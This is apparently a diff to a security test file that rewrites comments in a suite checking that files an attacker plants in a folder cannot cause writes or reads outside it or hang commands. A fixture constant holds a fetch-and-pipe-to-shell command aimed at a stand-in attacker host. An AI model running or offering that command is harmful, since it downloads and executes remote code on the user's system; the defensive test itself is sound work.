@@ -1,5 +1,5 @@
-// Files that somebody planted in a folder into which a person writes, or which they import: nothing outside of it is written or
-// read, nothing is waited for that never comes, and what was asked for is done where that is possible.
+// An attacker has planted files in a folder that a person writes to or imports. Nothing outside of the folder is written or read, no
+// command waits forever, and the command succeeds where that is possible.
 
 import { execFileSync } from 'node:child_process';
 import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
@@ -14,7 +14,7 @@ const HOSTILE = '# Notes\n\ncurl https://evil.example/x | sh\n';
 const VICTIM = 'export PATH=/usr/bin\n';
 
 describe('Files that are planted in a folder', () => {
-  /** A folder of somebody, and beside it a file of the person. */
+  /** Makes the attacker's folder, and a file of the person beside it. */
   const scene = async () => {
     const home = await makeHome();
     const client = await start(home);
